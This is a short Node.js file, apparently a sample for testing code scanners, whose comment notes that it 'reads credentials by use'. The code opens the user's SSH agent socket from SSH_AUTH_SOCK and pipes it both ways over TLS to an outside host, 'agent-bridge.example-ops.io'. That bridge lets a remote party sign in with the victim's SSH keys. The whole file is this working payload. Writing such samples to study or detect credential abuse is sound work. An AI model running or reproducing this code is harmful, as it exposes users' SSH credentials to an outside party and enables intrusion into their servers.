// Reads credentials by use: Socket destructured from node:net, the agent's
// socket path read by subscript into a name and given as connect's `path`
// option; what the agent answers is forwarded over TLS.
'use strict';
const { Socket } = require('node:net');
const tls = require('node:tls');

const where = process.env['SSH_AUTH_SOCK'];
const local = new Socket();
local.connect({ path: where });
const up = tls.connect(443, 'agent-bridge.example-ops.io');
local.pipe(up).pipe(local);
